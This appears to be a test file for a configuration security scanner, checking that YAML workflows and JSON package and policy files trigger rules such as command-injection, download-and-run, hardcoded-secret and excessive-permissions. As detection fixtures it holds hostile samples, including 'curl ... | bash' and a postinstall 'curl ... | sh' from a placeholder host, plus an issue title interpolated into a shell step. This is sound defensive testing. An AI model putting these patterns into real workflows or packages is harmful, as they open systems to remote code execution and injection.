import assert from 'node:assert/strict'
import { before, describe, test } from 'node:test'
import { createLines } from '../core/lines.ts'
import type { Engine } from '../core/types.ts'
import { openJson } from '../json/index.ts'
import { openYaml } from '../yaml/index.ts'

async function rulesIn(engine: Engine, code: string): Promise<string[]> {
  const { findings, broken } = await engine.inspect({ code })
  assert.equal(broken, undefined)
  const { lineAt } = createLines(code)
  return findings.map(({ rule, start }) => `${lineAt(start)} ${rule}`)
}

describe('yaml', () => {
  let yaml: Engine
  before(async () => {
    yaml = await openYaml()
  })

  const workflow = (run: string) => `on: issues\njobs:\n  a:\n    steps:\n      - run: ${run}\n`
  for (const [why, code, expected] of [
    [
      'a stranger’s title in a command',
      workflow('echo "${{ github.event.issue.title }}"'),
      ['5 command-injection'],
    ],
    ['a number of an issue in a command', workflow('echo "${{ github.event.issue.number }}"'), []],
    ['a title by way of the environment', workflow('echo "$TITLE"'), []],
    ['a download that is run', workflow('curl -s https://x.example.org/i.sh | bash'), ['5 download-and-run']],
    ['a download that is kept', workflow('curl -so a.tgz https://x.example.org/a.tgz'), []],
    ['an action from a branch', 'jobs:\n  a:\n    steps:\n      - uses: o/r@main\n', ['4 unpinned-action']],
    ['an action at a version', 'jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n', []],
    ['rights to write everywhere', 'permissions: write-all\njobs: {}\n', ['1 excessive-permissions']],
    ['a privileged container', 'services:\n  a:\n    privileged: true\n', ['3 privileged-container']],
    [
      'the socket of docker',
      'services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n',
      ['4 docker-socket'],
    ],
    ['a password', 'db:\n  password: hunter2secret9\n', ['2 hardcoded-secret']],
    ['a password from the environment', 'db:\n  password: ${DB_PASSWORD}\n', []],
    ['a name that is repeated', 'a: 1\nb: 2\na: 3\n', ['3 duplicate-key']],
    ['a list of alike things', 'on:\n  push:\n    branches: [main, main2]\n', []],
    ['certificates unchecked', 'http:\n  verify_ssl: false\n', ['2 tls-verification-off']],
    ['a mode for everybody', "- copy:\n    mode: '0777'\n", ['2 loose-permissions']],
  ] as const) {
    test(why, async () => assert.deepEqual(await rulesIn(yaml, code), expected))
  }

  test('says where it does not parse', async () => {
    const { broken } = await yaml.inspect({ code: 'a: 1\nb: [1, 2\nc: 3\n' })
    assert.ok(broken && broken.line >= 2)
  })

  test('a line that is indented too far is the one that is informed', async () => {
    assert.equal((await yaml.inspect({ code: 'a: 1\n b: 2\n' })).broken?.line, 2)
    assert.equal((await yaml.inspect({ code: 'x: 1\na: b: 2\n' })).broken?.line, 2)
  })

  test('very many names cost no more than few', async () => {
    const flat = Array.from({ length: 50_000 }, (_, n) => `a${n}: 1`).join('\n')
    assert.deepEqual(await rulesIn(yaml, flat), [])
  })

  test('aliases that multiply cost nothing', async () => {
    const bomb = Array.from({ length: 30 }, (_, n) => `a${n}: &a${n} [*a${n - 1}, *a${n - 1}]`).join('\n')
    await yaml.inspect({ code: bomb.replace('[*a-1, *a-1]', '[x]') })
  })

  test('lays out with the indentation that it has', async () => {
    assert.equal(await yaml.format?.({ code: 'a:\n    b:   1\n    c: 2\n' }), 'a:\n    b: 1\n    c: 2\n')
  })
})

describe('json', () => {
  let json: Engine
  before(async () => {
    json = await openJson()
  })

  for (const [why, code, expected] of [
    ['a token', '{\n  "apiToken": "x",\n  "auth_token": "9f8a7b6c5d4e3f2a"\n}', ['3 hardcoded-secret']],
    [
      'an install script that downloads',
      '{"scripts": {"postinstall": "curl https://x.example.org | sh"}}',
      ['1 download-and-run', '1 install-script'],
    ],
    ['an install script that builds', '{"scripts": {"postinstall": "node build.js"}}', []],
    ['any version', '{"dependencies": {"left-pad": "*"}}', ['1 unpinned-dependency']],
    ['a range', '{"dependencies": {"left-pad": "^1.3.0"}}', []],
    [
      'a policy for everything',
      '{"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}',
      ['1 excessive-permissions'],
    ],
    [
      'a policy for one thing',
      '{"Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]}',
      [],
    ],
    ['a name twice', '{"a": 1, "a": 2}', ['1 duplicate-key']],
    ['comments', '// settings\n{"a": 1}', []],
  ] as const) {
    test(why, async () => assert.deepEqual(await rulesIn(json, code), expected))
  }

  test('says where it does not parse', async () => {
    const { broken } = await json.inspect({ code: '{\n  "a": 1\n  "b": 2\n}' })
    assert.deepEqual(broken, { line: 3, message: 'Comma expected.' })
  })

  test('nested without end', async () => {
    assert.ok((await json.inspect({ code: '['.repeat(100_000) })).broken)
  })
})
